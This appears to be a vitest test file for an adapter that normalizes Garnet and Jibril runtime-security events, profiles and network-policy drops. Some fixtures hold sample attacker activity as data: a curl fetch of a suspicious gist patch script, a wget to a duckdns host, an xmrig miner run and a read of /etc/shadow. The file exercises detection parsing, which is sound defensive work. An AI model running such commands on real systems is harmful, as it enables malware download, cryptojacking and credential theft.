import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { adaptGarnet, adaptGarnetAt, adaptGarnetEventV2 } from "./garnet";
import type { AdapterItemResult, NormalizedEvent } from "./types";
import { expectWellFormed } from "../../test-support/corpus";

const CORPUS = path.join(__dirname, "../../test-fixtures/corpus/garnet");
const NOW = new Date("2030-01-02T03:04:05.000Z");

function events(result: AdapterItemResult): NormalizedEvent[] {
  if (!result.ok) throw new Error(`expected ok, got: ${result.error}`);
  return result.events;
}

function errorOf(result: AdapterItemResult): string {
  if (result.ok) throw new Error("expected an error");
  return result.error;
}

function corpus(sub: string, file: string): unknown {
  return JSON.parse(fs.readFileSync(path.join(CORPUS, sub, file), "utf8"));
}

const corpusFiles = ["events", "profiles"].flatMap((sub) =>
  fs.readdirSync(path.join(CORPUS, sub)).filter((f) => f.endsWith(".json")).map((f) => [sub, f] as const),
);

describe("garnet corpus", () => {
  it("has the expected files", () => {
    expect(corpusFiles.length).toBeGreaterThanOrEqual(10);
  });

  it.each(corpusFiles)("accepts %s/%s with well-formed, uniquely identified events", (sub, file) => {
    const out = events(adaptGarnetAt(corpus(sub, file), NOW));
    expect(out.length).toBeGreaterThan(0);
    for (const e of out) expectWellFormed(e, { titled: false });
    const ids = out.map((e) => e.sourceId);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it("maps the Jibril detection document (head/body + AI verdict)", () => {
    const [e] = events(adaptGarnetAt(corpus("events", corpusFiles.find(([s]) => s === "events")![1]), NOW));
    expect(e.sourceId).toBe("2b9d8f99f2b71dafb361fd56ad8c7d3f502e85e0c6f041d1d5d26af06e861969");
    expect(e.occurredAt).toBe("2025-04-20T00:08:47.000Z");
    expect(e.kind).toBe("detections");
    expect(e.type).toBe("plaintext_communication");
    expect(e.severity).toBe("critical");
    expect(e.title).toBe("Access to pastebin services");
    expect(e.process).toMatchObject({ exe: "/usr/bin/curl", comm: "curl", pid: 3044971, ppid: 3043556, uid: 1000 });
    expect(e.process?.args).toBe("curl https://gist.githubusercontent.com/tempadmin2023/sysconfig-update/raw/critical_patch.sh");
    expect(e.parent).toMatchObject({ exe: "/usr/bin/bash", pid: 3043556 });
    expect(e.ancestors?.map((a) => a.pid)).toEqual([3043556, 3043555, 3043552, 684, 1]);
    expect(e.ancestors?.[4].exe).toBe("/usr/lib/systemd/systemd");
    expect(e.dnsNames).toEqual(["185.199.110.133", "gist.githubusercontent.com"]);
    expect(e.domain).toBe("gist.githubusercontent.com");
    expect(e.flow).toMatchObject({ protocol: "TCP", ipVersion: 4, direction: "both", status: "ended" });
    expect(e.flow?.remote).toMatchObject({ address: "185.199.110.133", port: 443 });
    expect(e.flow?.local).toMatchObject({ address: "192.168.1.125", port: 39992 });
    expect(e.flags).toEqual(expect.arrayContaining(["category:command_and_control", "verdict:medium"]));
    expect(e.flags).not.toContain("false_positive");
  });

  it("turns a recorded workload profile into a summary, one event per egress peer/process and failed assertions", () => {
    const out = events(adaptGarnetAt(corpus("profiles", "record-workload-egress.json"), NOW));
    const [summary, ...rest] = out;
    expect(summary).toMatchObject({ kind: "infos", type: "profile", severity: "medium", outcome: "attention" });
    expect(summary.sourceId).toBe("b8473ddf-4aaa-549e-89ad-a8a026b16629");
    expect(summary.occurredAt).toBe("2026-07-08T05:35:56.527Z");
    expect(summary.agent).toEqual({
      os: "Linux",
      arch: "X64",
      repository: "garnet-org/runtime-review-testbed",
      workflow: "Garnet Runtime Review",
      job: "workload-egress",
      runId: "28920090126",
    });
    expect(summary.title).toContain("8 egress peers");
    expect(summary.flags).toEqual(expect.arrayContaining(["actor:jadoonf", "attention:no_bad_egress_domain"]));

    const flows = rest.filter((e) => e.kind === "flows");
    expect(flows).toHaveLength(11); // 8 peers, the DNS peer has 4 process trees
    const curl = flows.find((e) => e.process?.comm === "curl" && e.domain === "httpbin.org")!;
    expect(curl.process).toEqual({ comm: "curl", exe: "/usr/bin/curl", args: "curl -s https://httpbin.org/json", pid: 2397 });
    expect(curl.ancestors?.map((a) => a.comm)).toEqual([
      "dash", "node", "dash", "node", "bash", "Runner.Worker", "Runner.Listener", "hosted-compute-agent", "systemd",
    ]);
    expect(curl.parent).toEqual({ comm: "dash" });
    expect(curl.agent.repository).toBe("garnet-org/runtime-review-testbed");
    expect(curl.flow).toMatchObject({ protocol: "TCP", direction: "egress", remote: { address: "3.219.145.192", port: 443 } });
    expect(curl.dnsNames).toEqual(["3.219.145.192", "httpbin.org"]);
    expect(curl.flags).toContain("country:US");

    const watchdog = flows.find((e) => e.flow?.remote?.address === "140.82.114.23")!;
    expect(watchdog.dnsNames).toEqual([
      "140.82.114.23",
      "glb-2a3c35-public-internal.githubapp.com",
      "hosted-compute-watchdog-prod-iad-01.githubapp",
    ]);
    expect(watchdog.severity).toBe("low");
    const npm = flows.find((e) => e.flow?.remote?.address === "104.16.3.34")!;
    expect(npm).toMatchObject({ severity: "medium", outcome: "attention", domain: "registry.npmjs.org" });
    expect(npm.flags).toContain("detection:exec_from_unusual_dir");

    const detections = rest.filter((e) => e.kind === "detections");
    expect(detections.map((e) => [e.type, e.severity, e.outcome])).toEqual([["no_bad_egress_domain", "medium", "attention"]]);
    expect(detections[0].flags).toContain("class:Network Egress");
  });

  it("rotates older remote_names ([domain, IP, CNAMEs]) into Garnet order and keeps old-style ancestry", () => {
    const out = events(adaptGarnetAt(corpus("profiles", "worth-a-look-run.json"), NOW));
    const unsplash = out.find((e) => e.domain === "images.unsplash.com")!;
    expect(unsplash.dnsNames).toEqual(["146.75.94.208", "dualstack.com.imgix.map.fastly.net", "unsplash.imgix.net", "images.unsplash.com"]);
    expect(unsplash.flow?.remote).toMatchObject({ address: "146.75.94.208", port: 443 });
    expect(unsplash.process).toEqual({ comm: "node", args: "node src/test.js" });
    expect(unsplash.ancestors?.map((a) => a.comm)).toEqual([
      "sh", "npm test", "bash", "Runner.Worker", "Runner.Listener", "hosted-compute-agent", "systemd",
    ]);
    expect(out[0].agent).toMatchObject({ repository: "garnet-labs/runtime-review-testbed", runId: "28492112239", job: "runtime-review" });
  });

  it("uses the injected clock and a stable content key when a profile has neither timestamp nor uuid", () => {
    const item = corpus("profiles", "normal-run.json");
    const first = events(adaptGarnetAt(item, NOW));
    const again = events(adaptGarnetAt(item, new Date("2031-01-01T00:00:00Z")));
    expect(first.map((e) => e.occurredAt)).toEqual([NOW.toISOString(), NOW.toISOString()]);
    expect(first[0].flags).toContain("received_time");
    expect(first[0].sourceId).toMatch(/^profile-[0-9a-f]{16}$/);
    expect(again.map((e) => e.sourceId)).toEqual(first.map((e) => e.sourceId));
    expect(first[1]).toMatchObject({ kind: "flows", domain: "registry.npmjs.org", dnsNames: ["104.16.5.34", "registry.npmjs.org"] });
    expect(first[1].process).toEqual({ comm: "npm install", args: "node /opt/hostedtoolcache/node/20.20.2/x64/bin/npm install" });
    expect(first[1].ancestors).toHaveLength(5);
  });

  it("maps the Devin sample profile: label-style assertion ids and mixed name orders", () => {
    const out = events(adaptGarnetAt(corpus("profiles", "sample-profile.json"), NOW));
    expect(out[0].agent).toMatchObject({ repository: "jadoonf/jibril-devin-setup", runId: "devin-1777678834" });
    const assertion = out.find((e) => e.kind === "detections")!;
    expect(assertion).toMatchObject({ type: "interpreter_shell_spawn", severity: "medium", outcome: "attention" });
    expect(assertion.flags).toContain("events:70");
    expect(out.find((e) => e.domain === "git-manager.local")?.dnsNames).toEqual(["172.16.9.1", "git-manager.local"]);
    expect(out.find((e) => e.flow?.remote?.address === "104.16.10.34")?.dnsNames).toEqual(["104.16.10.34", "registry.npmjs.org"]);
    const gitRemote = out.filter((e) => e.process?.comm === "git-remote-http");
    expect(gitRemote[0].ancestors?.map((a) => a.comm)).toEqual(["git", "git", "sshd", "sshd", "sshd", "systemd"]);
  });
});

// Shapes from seed 000 (Event, EventData, Flow/Node, Process, kinds, metadata names) and garnet-org/api types.
const k8sEvent = {
  id: "0f8e0c55-5d59-4d1c-9a43-7d0e1d1c2b11",
  agent: {
    id: "agt_123",
    hostname: "worker-1",
    os: "linux",
    arch: "amd64",
    version: "2.8.1",
    kind: "kubernetes",
    kubernetes_context: { cluster: "prod-eu", namespace: "payments", node: "ip-10-0-1-7" },
  },
  kind: "detections",
  data: {
    uuid: "d1",
    timestamp: "2025-06-01T10:00:00.123456789Z",
    metadata: { kind: "detections", name: "crypto_miner_execution", importance: "high", tactic: "impact", technique: "resource_hijacking" },
    process: { pid: 900, ppid: 800, comm: "xmrig", exe: "/tmp/xmrig", args: "/tmp/xmrig -o pool:3333", start: "2025-06-01T09:59:59Z", exit: "running" },
    background: {
      ancestry: [
        { pid: 1, ppid: 0, comm: "containerd-shim", exe: "/usr/bin/containerd-shim" },
        { pid: 800, ppid: 1, comm: "sh", exe: "/bin/sh", args: "sh -c ./run.sh" },
        { pid: 900, ppid: 800, comm: "xmrig", exe: "/tmp/xmrig" },
      ],
      containers: { containers: [{ id: "c0ffee", name: "api", image: "ghcr.io/acme/api:1.2" }] },
    },
  },
  created_at: "2025-06-01T10:00:01Z",
  updated_at: "0001-01-01T00:00:00Z",
};

const flowV2 = {
  id: "7c1f7a2e-3f7b-4d51-8d57-9c2c2b0c0a01",
  kind: "flows",
  data: {
    uuid: "f1",
    timestamp: "2025-06-01T11:00:00Z",
    metadata: { name: "flow" },
    flow: {
      ip_version: 4,
      proto: "TCP",
      local: { address: "10.0.0.5", port: 51000 },
      remote: { address: "151.101.1.69", name: "cdn.example.com", names: ["151.101.1.69", "edge.fastly.net", "cdn.example.net", "cdn.example.com"], port: 443 },
      phase: { direction: "egress", initiated_by: "local", status: "ongoing" },
    },
  },
};

describe("garnet seed shapes", () => {
  it("maps a plain Event with a Kubernetes agent and an ashkaal ancestry", () => {
    const [e] = events(adaptGarnet(k8sEvent));
    expect(e).toMatchObject({ sourceId: k8sEvent.id, kind: "detections", type: "crypto_miner_execution", severity: "high" });
    expect(e.occurredAt).toBe("2025-06-01T10:00:00.123Z"); // data.timestamp wins over created_at
    expect(e.agent).toEqual({
      externalId: "agt_123", hostname: "worker-1", os: "linux", arch: "amd64", version: "2.8.1",
      cluster: "prod-eu", namespace: "payments", node: "ip-10-0-1-7", container: "api", image: "ghcr.io/acme/api:1.2",
    });
    expect(e.process).toEqual({ exe: "/tmp/xmrig", comm: "xmrig", args: "/tmp/xmrig -o pool:3333", pid: 900, ppid: 800, start: "2025-06-01T09:59:59.000Z" });
    expect(e.ancestors?.map((a) => a.pid)).toEqual([800, 1]);
    expect(e.parent?.comm).toBe("sh");
    expect(e.flags).toEqual(expect.arrayContaining(["agent:kubernetes", "tactic:impact", "technique:resource_hijacking"]));
  });

  it("accepts the CreateOrUpdateEventV2 PUT body and keeps the CNAME chain in Garnet order", () => {
    for (const adapt of [adaptGarnet, adaptGarnetEventV2]) {
      const [e] = events(adapt(flowV2));
      expect(e).toMatchObject({ sourceId: flowV2.id, kind: "flows", type: "flow", severity: "low", domain: "cdn.example.com" });
      expect(e.dnsNames).toEqual(["151.101.1.69", "edge.fastly.net", "cdn.example.net", "cdn.example.com"]);
      expect(e.flow).toMatchObject({ protocol: "TCP", direction: "egress", status: "ongoing", remote: { name: "cdn.example.com", port: 443 } });
    }
  });

  it("keeps the GitHub agent context and maps badware domain access", () => {
    const item = {
      id: "e-gh",
      agent: { id: "agt_gh", kind: "github", github_context: { repository: "acme/web", workflow: "CI", job: "build", run_id: "42", runner_os: "Linux" } },
      kind: "detections",
      data: { timestamp: "2025-06-02T00:00:00Z", metadata: { name: "badware_domain_access", importance: "critical", description: "Known malicious domain" }, flow: { remote: { names: ["6.6.6.6", "bad.example"] } } },
    };
    const [e] = events(adaptGarnet(item));
    expect(e.agent).toEqual({ externalId: "agt_gh", os: "Linux", repository: "acme/web", workflow: "CI", job: "build", runId: "42" });
    expect(e).toMatchObject({ type: "badware_domain_access", severity: "critical", title: "Known malicious domain", domain: "bad.example" });
    expect(e.flags).toContain("agent:github");
  });

  it("maps drop events to netpolicy with a block action", () => {
    const dropIp = { kind: "netpolicy", data: { uuid: "x1", timestamp: "2025-06-03T00:00:00Z", metadata: { name: "dropip" }, ip: "203.0.113.9", names: ["203.0.113.9", "evil.example"] } };
    const [ip] = events(adaptGarnet(dropIp));
    expect(ip).toMatchObject({ kind: "netpolicy", type: "drop_ip", action: "block", severity: "medium", domain: "evil.example" });
    expect(ip.flow?.remote?.address).toBe("203.0.113.9");
    expect(ip.flags).toContain("blocked");
    const [dom] = events(adaptGarnet({ data: { timestamp: "2025-06-03T00:00:00Z", metadata: { name: "drop_domain" }, domain: "evil.example" } }));
    expect(dom).toMatchObject({ kind: "netpolicy", type: "drop_domain", domain: "evil.example" });
  });

  it("maps the legacy EventData shape (head, flow, full_info, parent, resolve, note)", () => {
    const item = {
      id: "legacy-1",
      kind: "detections",
      created_at: "2025-05-05T05:05:05Z",
      data: {
        head: { name: "dyndns_domain_access", description: "Dynamic DNS domain", importance: "low", category: "command_and_control" },
        note: "dyndns_domain_access_1",
        resolve: "x.duckdns.org",
        resolve_flow: { proto: "UDP", remote: { address: "1.1.1.1", port: 53 } },
        process: { pid: 20, ppid: 10, cmd: "wget -q http://x.duckdns.org/a", exe: "/usr/bin/wget" },
        full_info: { ancestry: [{ pid: 10, ppid: 1, comm: "bash" }, { pid: 20, ppid: 10, comm: "wget" }] },
      },
    };
    const [e] = events(adaptGarnet(item));
    expect(e).toMatchObject({ occurredAt: "2025-05-05T05:05:05.000Z", type: "dyndns_domain_access", severity: "low", domain: "x.duckdns.org" });
    expect(e.flow).toMatchObject({ protocol: "UDP", remote: { address: "1.1.1.1", port: 53 } });
    expect(e.process).toEqual({ exe: "/usr/bin/wget", args: "wget -q http://x.duckdns.org/a", pid: 20, ppid: 10 });
    expect(e.parent).toEqual({ comm: "bash", pid: 10, ppid: 1 });
    expect(e.ancestors).toEqual([{ comm: "bash", pid: 10, ppid: 1 }]);
  });

  it.each([
    ["critical", "critical"], ["high", "high"], ["medium", "medium"], ["low", "low"], ["none", "low"], ["HIGH", "high"],
  ])("maps importance %s to %s", (importance, severity) => {
    const [e] = events(adaptGarnet({ data: { timestamp: "2025-01-01T00:00:00Z", metadata: { name: "sudoers_modification", importance } } }));
    expect(e.severity).toBe(severity);
  });

  it("falls back to the ashkaal score, then to the kind default", () => {
    const base = { timestamp: "2025-01-01T00:00:00Z", metadata: { name: "code_on_the_fly" } };
    expect(events(adaptGarnet({ data: { ...base, score: { severity: 85 } } }))[0].severity).toBe("high");
    expect(events(adaptGarnet({ data: { ...base, score: { severity_level: "critical" } } }))[0].severity).toBe("critical");
    expect(events(adaptGarnet({ data: base }))[0]).toMatchObject({ kind: "detections", severity: "medium" });
    expect(events(adaptGarnet({ kind: "infos", data: base }))[0]).toMatchObject({ kind: "infos", severity: "low" });
  });

  it("maps an ashkaal file access and an attenuated false positive", () => {
    const item = {
      data: {
        timestamp: "2025-01-01T00:00:00Z",
        metadata: { name: "credentials_files_access", importance: "medium" },
        file: { path: "/etc/shadow", actions: { actions: ["open", "read"], open: true, read: true } },
        attenuator: { is_false_positive: true, new_severity_level: "low" },
      },
    };
    const [e] = events(adaptGarnet(item));
    expect(e.file).toEqual({ path: "/etc/shadow", operation: "read", flags: "open|read" });
    expect(e.severity).toBe("medium");
    expect(e.flags).toEqual(expect.arrayContaining(["attenuated:low", "false_positive"]));
  });
});

describe("garnet bad input", () => {
  const profile = (network: unknown, assertions?: unknown) => ({ timestamp: "2025-01-01T00:00:00Z", network, assertions });
  it.each<[string, unknown, string]>([
    ["null", null, "item must be a JSON object"],
    ["array", [k8sEvent], "item must be a JSON object"],
    ["number", 42, "item must be a JSON object"],
    ["string", "event", "item must be a JSON object"],
    ["empty object", {}, "data is required (Garnet event) or metadata/head/network (Jibril document)"],
    ["data not an object", { id: "x", data: "nope" }, "data must be an object"],
    ["data null", { id: "x", data: null }, "data must be an object"],
    ["no metadata name", { id: "x", kind: "detections", data: { timestamp: "2025-01-01T00:00:00Z" } }, "data.metadata.name is required"],
    ["bad kind", { ...k8sEvent, kind: "alerts" }, "kind must be one of flows, detections, infos, netpolicy"],
    ["kind of wrong type", { ...k8sEvent, kind: 3 }, "kind must be one of flows, detections, infos, netpolicy"],
    ["id of wrong type", { ...k8sEvent, id: { v: 1 } }, "id must be a non-empty string"],
    ["bad created_at", { ...k8sEvent, created_at: "yesterday" }, "created_at is not a valid time"],
    ["numeric timestamp", { ...k8sEvent, data: { ...k8sEvent.data, timestamp: 1717236000 } }, "data.timestamp is not a valid time"],
    ["peers not an array", profile({ egress: { peers: "many" } }), "network.egress.peers must be an array"],
    ["peer not an object", profile({ egress: { peers: [7] } }), "network.egress.peers[0] must be an object"],
    ["assertions not an array", profile({}, { id: "x" }), "assertions must be an array"],
  ])("rejects %s", (_name, item, message) => {
    expect(errorOf(adaptGarnetAt(item, NOW))).toBe(message);
  });

  it("requires id, kind and data for the PUT body", () => {
    expect(errorOf(adaptGarnetEventV2({ kind: flowV2.kind, data: flowV2.data }))).toBe("id is required");
    expect(errorOf(adaptGarnetEventV2({ id: flowV2.id, data: flowV2.data }))).toBe("kind is required");
    expect(errorOf(adaptGarnetEventV2({ id: "x", kind: "flows" }))).toBe("data must be an object");
    expect(errorOf(adaptGarnetEventV2(null))).toBe("item must be a JSON object");
  });

  it("never throws on odd nested values", () => {
    const odd = [
      { data: { metadata: { name: "flow" }, flow: 5, process: "x", background: { ancestry: "no" }, names: [1, null] } },
      { data: { metadata: { name: 7 }, head: [], body: { process: [], full_info: { ancestry: [null, 3] } } } },
      { data: { network: { egress: { peers: [{ proc_trees: [null, { ancestry: [1, "a"] }], remote_ports: [{}], remote_names: 9 }] } } } },
      { data: { assertions: [{ result: 5 }, { result: "fail", evidence: [{ peer: "x" }] }] } },
    ];
    for (const item of odd) {
      expect(() => adaptGarnetAt(item, NOW)).not.toThrow();
    }
    const failed = events(adaptGarnetAt(odd[3], NOW)).find((e) => e.kind === "detections");
    expect(failed).toMatchObject({ type: "assertion", severity: "high", outcome: "fail" });
  });
});
